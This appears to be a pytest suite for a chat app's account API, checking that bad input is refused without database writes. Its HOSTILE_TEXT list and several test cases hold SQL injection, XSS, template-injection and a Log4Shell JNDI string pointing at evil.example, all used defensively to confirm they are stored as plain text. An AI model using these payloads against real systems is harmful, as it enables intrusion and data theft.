"""Bad input on the account routes, on SQLite and on MariaDB.

Every case gets the right 4xx in the contract's error shape, and NOTHING is written: the
user and session counts are read from the database before and after.
"""

# Look-alike characters (fullwidth letters, homoglyphs) are the point of these tests.
# ruff: noqa: RUF001

from __future__ import annotations

import json
from dataclasses import dataclass, field
from typing import Any

import httpx
from sqlalchemy import func, select

from gochat.storage.tables import refresh_tokens, sessions, users
from tests.support import LiveServer

API = "/api/v1"
PASSWORD = "password123"
MAX_BODY = 1_048_576  # Settings.max_body_bytes default: 1 MiB
JSON = {"content-type": "application/json"}


@dataclass
class Case:
    name: str
    status: int
    code: str
    json: Any = None
    content: bytes | None = None
    headers: dict[str, str] = field(default_factory=lambda: dict(JSON))
    field: str | None = None  # for 422: a field the error must name


async def row_counts(server: LiveServer) -> dict[str, int]:
    async with server.app.state.components.engine.connect() as conn:
        return {
            table.name: int((await conn.execute(select(func.count()).select_from(table))).scalar_one())
            for table in (users, sessions, refresh_tokens)
        }


async def send(http: httpx.AsyncClient, method: str, path: str, case: Case, **extra: Any) -> httpx.Response:
    headers = {**case.headers, **extra.pop("headers", {})}
    if case.content is not None:
        return await http.request(method, path, content=case.content, headers=headers)
    body = json.dumps(case.json).encode()  # `null` too: a JSON body that is literally null
    return await http.request(method, path, content=body, headers=headers)


def check(case: Case, r: httpx.Response) -> str | None:
    """A description of what is wrong with the response, or None."""
    try:
        body = r.json()
    except ValueError:
        return f"{case.name}: {r.status_code} not JSON: {r.text[:200]}"
    if r.status_code != case.status:
        return f"{case.name}: expected {case.status}, got {r.status_code} {r.text[:300]}"
    error = body.get("error") if isinstance(body, dict) else None
    if set(body) != {"error"} or not isinstance(error, dict):
        return f"{case.name}: not the error shape: {body}"
    if error.get("code") != case.code or not isinstance(error.get("message"), str):
        return f"{case.name}: wrong code/message: {error}"
    if "Traceback" in r.text or "sqlalchemy" in r.text.lower():
        return f"{case.name}: leaks internals: {r.text[:300]}"
    if case.status == 422:
        fields = error.get("fields")
        if not isinstance(fields, list) or not fields:
            return f"{case.name}: 422 without a fields list: {error}"
        if not all(isinstance(f, dict) and {"field", "message"} <= set(f) for f in fields):
            return f"{case.name}: malformed fields: {fields}"
        if case.field is not None and case.field not in {f["field"] for f in fields}:
            return f"{case.name}: fields do not name {case.field!r}: {fields}"
    return None


async def run_table(server: LiveServer, method: str, path: str, cases: list[Case], **extra: Any) -> None:
    before = await row_counts(server)
    failures = [
        problem
        for case in cases
        if (problem := check(case, await send(server.http, method, path, case, **extra)))
    ]
    assert not failures, "\n".join(failures)
    assert await row_counts(server) == before, "a refused request wrote something"


def register_body(**changes: Any) -> dict[str, Any]:
    body: dict[str, Any] = {"username": "newcomer", "password": PASSWORD}
    body.update(changes)
    return {k: v for k, v in body.items() if v is not ...}


async def registered(server: LiveServer, name: str) -> dict[str, Any]:
    r = await server.http.post(f"{API}/auth/register", json={"username": name, "password": PASSWORD})
    assert r.status_code == 201, r.text
    r = await server.http.post(f"{API}/auth/login", json={"username": name, "password": PASSWORD})
    assert r.status_code == 200, r.text
    tokens: dict[str, Any] = r.json()
    return tokens


def too_big(size: int) -> bytes:
    """A syntactically valid registration body of exactly ``size`` bytes."""
    head, tail = b'{"username":"newcomer","password":"', b'"}'
    return head + b"p" * (size - len(head) - len(tail)) + tail


def register_cases() -> list[Case]:
    dup = [
        ("other case", "ALICE"),
        ("mixed case", "aLiCe"),
        ("fullwidth", "ａｌｉｃｅ"),
        ("fullwidth upper", "ＡＬＩＣＥ"),
        ("padded", "  alice "),
        ("kelvin sign", "\u212aate_x"),
        ("fullwidth underscore", "Bob＿1"),
    ]
    bad_names = [
        ("empty", ""),
        ("too short", "ab"),
        ("too long", "a" * 33),
        ("inner space", "al ice"),
        ("only spaces", "    "),
        ("accented", "ålice"),
        ("cyrillic homoglyph", "\u0430lice"),
        ("cjk", "李小龙"),
        ("arabic", "مرحبا"),
        ("emoji", "alice😀"),
        ("newline", "ali\nce"),
        ("nul", "ali\x00ce"),
        ("quote", "o'neil"),
        ("sql", "a' OR '1'='1"),
        ("script", "<script>"),
        ("percent", "100%"),
        ("zero-width space", "ali\u200bce"),
    ]
    cases = [Case(f"duplicate, {what}", 409, "username_taken", register_body(username=n)) for what, n in dup]
    cases += [
        Case(f"username {what}", 422, "invalid_request", register_body(username=n), field="username")
        for what, n in bad_names
    ]
    cases += [
        Case("password 7 chars", 422, "invalid_request", register_body(password="x" * 7), field="password"),
        Case("password empty", 422, "invalid_request", register_body(password=""), field="password"),
        Case(
            "password 257 chars", 422, "invalid_request", register_body(password="x" * 257), field="password"
        ),
        Case(
            "password 5000 chars",
            422,
            "invalid_request",
            register_body(password="x" * 5000),
            field="password",
        ),
        Case("username int", 422, "invalid_request", register_body(username=12345), field="username"),
        Case("username list", 422, "invalid_request", register_body(username=["alice"]), field="username"),
        Case("username null", 422, "invalid_request", register_body(username=None), field="username"),
        Case("username object", 422, "invalid_request", register_body(username={"a": 1}), field="username"),
        Case("username bool", 422, "invalid_request", register_body(username=True), field="username"),
        Case("password int", 422, "invalid_request", register_body(password=12345678), field="password"),
        Case("password null", 422, "invalid_request", register_body(password=None), field="password"),
        Case("display_name int", 422, "invalid_request", register_body(display_name=5), field="display_name"),
        Case("missing username", 422, "invalid_request", register_body(username=...), field="username"),
        Case("missing password", 422, "invalid_request", register_body(password=...), field="password"),
        Case("empty object", 422, "invalid_request", {}, field="password"),
        Case("body is a list", 422, "invalid_request", [register_body()]),
        Case("body is null", 422, "invalid_request", None),
        Case("body is a string", 422, "invalid_request", "alice"),
        Case("body is a number", 422, "invalid_request", 42),
        Case("not JSON", 422, "invalid_request", content=b"username=alice&password=password123"),
        Case("truncated JSON", 422, "invalid_request", content=b'{"username": "newcomer", "pass'),
        Case("empty body", 422, "invalid_request", content=b""),
        Case("invalid UTF-8", 400, "bad_request", content=b'{"username": "new\xff\xfe", "password": "p"}'),
        Case(
            "lone surrogate",
            422,
            "invalid_request",
            content=b'{"username": "newcomer", "password": "password\\ud800"}',
            field="password",
        ),
        Case(
            "form encoded",
            422,
            "invalid_request",
            content=b"username=newcomer&password=password123",
            headers={"content-type": "application/x-www-form-urlencoded"},
        ),
        Case(
            "display_name empty",
            422,
            "invalid_request",
            register_body(display_name="  "),
            field="display_name",
        ),
        Case(
            "display_name 65",
            422,
            "invalid_request",
            register_body(display_name="d" * 65),
            field="display_name",
        ),
        Case(
            "display_name nul",
            422,
            "invalid_request",
            register_body(display_name="a\x00b"),
            field="display_name",
        ),
        Case(
            "display_name escape",
            422,
            "invalid_request",
            register_body(display_name="\x1b[31mred"),
            field="display_name",
        ),
        Case(
            "display_name newline",
            422,
            "invalid_request",
            register_body(display_name="a\nb"),
            field="display_name",
        ),
        Case(
            "display_name RLO",
            422,
            "invalid_request",
            register_body(display_name="abc\u202eexe.txt"),
            field="display_name",
        ),
        Case(
            "display_name DEL",
            422,
            "invalid_request",
            register_body(display_name="a\x7fb"),
            field="display_name",
        ),
        Case("body over 1 MiB", 413, "too_large", content=too_big(MAX_BODY + 1)),
        Case("body of 5 MiB", 413, "too_large", content=too_big(5 * MAX_BODY)),
    ]
    return cases


async def test_register_refuses_bad_input_and_writes_nothing(server: LiveServer) -> None:
    await registered(server, "alice")
    await registered(server, "Kate_x")
    await registered(server, "bob_1")
    await run_table(server, "POST", f"{API}/auth/register", register_cases())


async def test_the_body_limit_is_exact(server: LiveServer) -> None:
    before = await row_counts(server)
    at_limit = await server.http.post(f"{API}/auth/register", content=too_big(MAX_BODY), headers=JSON)
    # 1 MiB is allowed through the limit; the 1 MiB password is then refused by the schema
    assert at_limit.status_code == 422, at_limit.text[:300]
    over = await server.http.post(f"{API}/auth/register", content=too_big(MAX_BODY + 1), headers=JSON)
    assert over.status_code == 413 and over.json()["error"]["code"] == "too_large"
    assert await row_counts(server) == before


async def test_a_huge_streamed_body_without_length_is_413(server: LiveServer) -> None:
    """Chunked transfer: no Content-Length to refuse up front; the limit counts as it reads."""
    body = too_big(3 * MAX_BODY)

    async def chunks() -> Any:
        for start in range(0, len(body), 64 * 1024):
            yield body[start : start + 64 * 1024]

    before = await row_counts(server)
    r = await server.http.post(f"{API}/auth/register", content=chunks(), headers=JSON)
    assert r.request.headers.get("transfer-encoding") == "chunked"
    assert check(Case("chunked", 413, "too_large"), r) is None, r.text
    assert await row_counts(server) == before


async def test_login_refresh_logout_refuse_bad_input_and_write_nothing(server: LiveServer) -> None:
    await registered(server, "alice")
    login_cases = [
        Case("username int", 422, "invalid_request", {"username": 1, "password": PASSWORD}, field="username"),
        Case(
            "username list",
            422,
            "invalid_request",
            {"username": ["alice"], "password": PASSWORD},
            field="username",
        ),
        Case(
            "password null", 422, "invalid_request", {"username": "alice", "password": None}, field="password"
        ),
        Case("missing password", 422, "invalid_request", {"username": "alice"}, field="password"),
        Case(
            "empty username", 422, "invalid_request", {"username": "", "password": PASSWORD}, field="username"
        ),
        Case("not JSON", 422, "invalid_request", content=b"alice:password123"),
        Case("list body", 422, "invalid_request", ["alice", PASSWORD]),
        Case("sql in username", 401, "invalid_credentials", {"username": "alice' --", "password": "x"}),
        Case("sql in password", 401, "invalid_credentials", {"username": "alice", "password": "' OR '1'='1"}),
        Case("huge", 413, "too_large", content=b'{"username":"' + b"a" * (MAX_BODY + 10) + b'"}'),
    ]
    await run_table(server, "POST", f"{API}/auth/login", login_cases)
    token_cases = [
        Case("int", 422, "invalid_request", {"refresh_token": 7}, field="refresh_token"),
        Case("null", 422, "invalid_request", {"refresh_token": None}, field="refresh_token"),
        Case("missing", 422, "invalid_request", {}, field="refresh_token"),
        Case("not JSON", 422, "invalid_request", content=b"token"),
        Case("sql", 401, "invalid_token", {"refresh_token": "' OR 1=1 --"}),
    ]
    await run_table(server, "POST", f"{API}/auth/refresh", token_cases)
    await run_table(server, "POST", f"{API}/auth/logout", token_cases)


async def test_profile_patch_refuses_bad_input_and_changes_nothing(server: LiveServer) -> None:
    tokens = await registered(server, "alice")
    headers = {"Authorization": f"Bearer {tokens['access_token']}"}
    r = await server.http.patch(
        f"{API}/users/me", json={"display_name": "Alice", "bio": "hello"}, headers=headers
    )
    assert r.status_code == 200, r.text
    profile = r.json()
    cases = [
        Case("display_name int", 422, "invalid_request", {"display_name": 5}, field="display_name"),
        Case("display_name list", 422, "invalid_request", {"display_name": ["x"]}, field="display_name"),
        Case("display_name empty", 422, "invalid_request", {"display_name": ""}, field="display_name"),
        Case("display_name 65", 422, "invalid_request", {"display_name": "x" * 65}, field="display_name"),
        Case("display_name 257", 422, "invalid_request", {"display_name": "x" * 257}, field="display_name"),
        Case(
            "display_name control", 422, "invalid_request", {"display_name": "a\x07b"}, field="display_name"
        ),
        Case("display_name bidi", 422, "invalid_request", {"display_name": "a\u2067b"}, field="display_name"),
        Case("bio 501", 422, "invalid_request", {"bio": "b" * 501}, field="bio"),
        Case("bio 2001", 422, "invalid_request", {"bio": "b" * 2001}, field="bio"),
        Case("bio control", 422, "invalid_request", {"bio": "ok\x00"}, field="bio"),
        Case("bio object", 422, "invalid_request", {"bio": {"text": "x"}}, field="bio"),
        Case(
            "presence_hidden not a bool",
            422,
            "invalid_request",
            {"presence_hidden": "maybe"},
            field="presence_hidden",
        ),
        Case(
            "one good one bad",
            422,
            "invalid_request",
            {"bio": "changed", "display_name": "a\x00"},
            field="display_name",
        ),
        Case("list body", 422, "invalid_request", [{"bio": "x"}]),
        Case("not JSON", 422, "invalid_request", content=b"bio=x"),
        Case("huge", 413, "too_large", content=b'{"bio":"' + b"b" * (MAX_BODY + 10) + b'"}'),
    ]
    await run_table(server, "PATCH", f"{API}/users/me", cases, headers=headers)
    r = await server.http.get(f"{API}/users/me", headers=headers)
    assert {k: r.json()[k] for k in profile} == profile


HOSTILE_TEXT = [
    "'; DROP TABLE users; --",
    "Robert'); DROP TABLE students;--",
    '" OR ""="',
    "1 UNION SELECT password_hash FROM users",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "javascript:alert(1)",
    "%_%",
    "\\' \\\" \\\\",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} <%= 7*7 %>",
    "&lt;b&gt; &amp; &#x27;",
]


async def test_sql_and_script_payloads_are_plain_text(server: LiveServer) -> None:
    tokens = await registered(server, "alice")
    headers = {"Authorization": f"Bearer {tokens['access_token']}"}
    for i, text in enumerate(HOSTILE_TEXT):
        r = await server.http.post(
            f"{API}/auth/register",
            json={"username": f"hostile_{i}", "password": PASSWORD, "display_name": text},
        )
        assert r.status_code == 201, (text, r.text)
        assert r.headers["content-type"] == "application/json"
        user = r.json()
        assert user["display_name"] == text
        r = await server.http.patch(
            f"{API}/users/me", json={"bio": text, "display_name": text}, headers=headers
        )
        assert r.status_code == 200, (text, r.text)
        assert r.json()["bio"] == text and r.json()["display_name"] == text
        r = await server.http.get(f"{API}/users/{user['id']}", headers=headers)
        assert r.json()["display_name"] == text
    counts = await row_counts(server)
    assert counts["users"] == 1 + len(HOSTILE_TEXT)  # the tables are all still there, and complete
    async with server.app.state.components.engine.connect() as conn:
        stored = (await conn.execute(select(users.c.bio).where(users.c.username == "alice"))).scalar_one()
    assert stored == HOSTILE_TEXT[-1]
